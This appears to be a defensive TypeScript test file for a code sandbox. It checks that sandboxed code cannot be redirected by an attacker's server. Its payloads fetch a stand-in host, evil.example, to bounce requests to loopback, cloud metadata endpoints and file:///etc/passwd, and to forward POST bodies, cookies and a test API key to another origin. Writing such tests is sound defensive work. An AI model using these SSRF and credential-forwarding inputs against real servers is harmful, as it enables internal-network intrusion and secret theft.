/** Being led somewhere by the answer of a server the attacker holds. */
import { createMemoryContext } from '@nodetool-ai/sandbox-core';
import { expect } from 'vitest';
import { type Attack, attack } from '../attack.js';
import { PUBLIC, type WatchedNetwork, watchedNetwork } from '../support/network.js';

const INWARD = [
  'http://127.0.0.1/',
  'http://2130706433/',
  '//localhost/',
  'http://[::1]/',
  'http://[::ffff:a00:1]/',
  'http://169.254.169.254/latest/',
  'file:///etc/passwd',
  'ftp://example.com/',
  'data:text/plain,x',
  'javascript:1',
  'http://user:pass@example.com/',
  'http://[',
  'http://a b/',
];

/** `/to?<location>` redirects there with status 302, `/loop` to itself, `/hops/<n>` n times. */
const evil = (answers?: Parameters<typeof watchedNetwork>[0]) =>
  watchedNetwork(answers, (request, response) => {
    const url = request.url ?? '';
    const [, hops] = /^\/hops\/(\d+)/.exec(url) ?? [];
    const status = Number(/status=(\d+)/.exec(url)?.[1] ?? 302);
    if (url.startsWith('/to?')) response.writeHead(status, { location: decodeURIComponent(url.slice(4)) }).end();
    else if (url.startsWith('/loop')) response.writeHead(status, { location: url }).end();
    else if (hops !== undefined && hops !== '0')
      response.writeHead(status, { location: `/hops/${Number(hops) - 1}` }).end();
    else if (url.startsWith('/other')) response.writeHead(status, { location: 'http://other.example/end' }).end();
    else if (url.startsWith('/long')) response.writeHead(status, { location: `/${'x'.repeat(15_000)}` }).end();
    else response.end(JSON.stringify({ method: request.method, headers: request.headers }));
  });

const CREDENTIALS = ['authorization', 'cookie'];

export const redirects: Attack[] = [
  ...INWARD.map((location) =>
    attack<WatchedNetwork>({
      name: `send a request on to ${location}`,
      code: `try { const r = await fetch('http://evil.example/to?' + encodeURIComponent(${JSON.stringify(location)})); return 'reached ' + r.status } catch (e) { return 'refused' }`,
      options: () => evil(),
      repelled: ({ result }, { connected, requests }) => {
        expect(result).toBe('refused');
        expect(connected).toEqual([PUBLIC]);
        expect(requests).toHaveLength(1);
      },
    }),
  ),
  ...['/loop', '/hops/6'].map((path) =>
    attack<WatchedNetwork>({
      name: `lead a request in circles at ${path}`,
      code: `try { await fetch('http://evil.example${path}'); return 'reached' } catch (e) { return e.message }`,
      options: () => evil(),
      repelled: ({ result }, { requests }) => {
        expect(result).toMatch(/redirect/);
        // The first one and five that are followed.
        expect(requests).toHaveLength(6);
      },
    }),
  ),
  ...[301, 302, 303].map((status) =>
    attack<WatchedNetwork>({
      name: `have a body sent on by status ${status}`,
      code: `const r = await fetch('http://evil.example/other?status=${status}', { method: 'POST', body: 'private', headers: { 'Content-Type': 'text/plain' } }); return JSON.parse(r.body)`,
      options: () => evil(),
      repelled: ({ result, error }) => {
        expect(error).toBeUndefined();
        const { method, headers } = result as { method: string; headers: Record<string, string> };
        expect(method).toBe('GET');
        expect(headers).not.toHaveProperty('content-type');
        expect(Number(headers['content-length'] ?? 0)).toBe(0);
      },
    }),
  ),
  ...[302, 307, 308].map((status) =>
    attack<WatchedNetwork>({
      name: `have credentials sent on to another origin by status ${status}`,
      code: `const key = await getSecret('KEY'); const headers = { Authorization: 'Bearer t', Cookie: 'a=b', 'X-Api-Key': key, 'X-Mixed': 'v1:' + key, 'X-Keep': 'kept' };
        const r = await fetch('http://evil.example/other?status=${status}', { headers }); const { headers: seen } = JSON.parse(r.body);
        return [seen['x-keep'], ${JSON.stringify(CREDENTIALS)}.filter((n) => n in seen), JSON.stringify(seen).includes(key)]`,
      options: async () => ({
        ...(await evil()),
        context: createMemoryContext({ secrets: { KEY: 'sk-9d31c2f7a8e4' } }),
      }),
      repelled: ({ result, error }, { requests }) => {
        expect(error).toBeUndefined();
        expect(result).toEqual(['kept', [], false]);
        expect(requests[0]?.headers.join(' ')).toContain('sk-9d31c2f7a8e4');
        expect(requests[1]?.headers.join(' ')).not.toContain('sk-9d31c2f7a8e4');
      },
    }),
  ),
  attack<WatchedNetwork>({
    name: 'redirect to a name that has moved inside meanwhile',
    code: `try { await fetch('http://evil.example/other'); return 'reached' } catch (e) { return e.message }`,
    options: () => evil([[PUBLIC], ['127.0.0.1']]),
    repelled: ({ result }, { connected }) => {
      expect(result).toMatch(/private address/);
      expect(connected).toEqual([PUBLIC]);
    },
  }),
  attack<WatchedNetwork>({
    name: 'redirect a media reference inside',
    code: `try { await media.bytes({ type: 'image', uri: 'http://evil.example/to?http%3A%2F%2F127.0.0.1%2F' }); return 'reached' } catch (e) { return e.message }`,
    options: async () => ({ ...(await evil()), context: createMemoryContext() }),
    repelled: ({ result }, { connected }) => {
      expect(result).toMatch(/blocked/);
      expect(connected).toEqual([PUBLIC]);
    },
  }),
  attack<WatchedNetwork>({
    name: 'pass the limit of fetches by redirects and media',
    code: `let n = 0; for (let i = 0; i < 10; i++) { try { await (i % 2 ? media.bytes({ type: 'image', uri: 'http://evil.example/end' }) : fetch('http://evil.example/hops/3')); n++ } catch {} } return n`,
    options: async () => ({ ...(await evil()), context: createMemoryContext(), limits: { maxFetchCalls: 4 } }),
    repelled: ({ result, usage }) => {
      expect(result).toBe(4);
      expect(usage?.fetchCalls).toBeGreaterThanOrEqual(4);
    },
  }),
];
